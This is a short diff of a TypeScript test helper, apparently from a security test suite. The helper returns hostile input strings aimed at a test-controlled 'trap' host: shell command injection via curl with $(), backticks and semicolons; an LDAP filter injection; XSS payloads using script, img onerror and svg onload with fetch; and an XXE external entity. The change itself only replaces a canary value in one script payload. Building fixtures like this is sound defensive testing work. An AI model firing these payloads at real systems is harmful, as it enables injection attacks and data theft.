@@ -17,7 +17,7 @@ export function hostileTexts(trap: string): readonly string[] {
     `$(curl ${trap}/shell)\`curl ${trap}/ticks\`;curl ${trap}/semicolon|`,
     `*)(uid=*))(|(uid=*`,
     // Pages
-    `<script>document.title='${CANARY}'</script>`,
+    `<script>document.title='hit'</script>`,
     `"><img src=x onerror="document.title='hit'">`,
     `<svg/onload=fetch('${trap}/svg')>`,
     `]]><!ENTITY x SYSTEM "${trap}/entity">`,
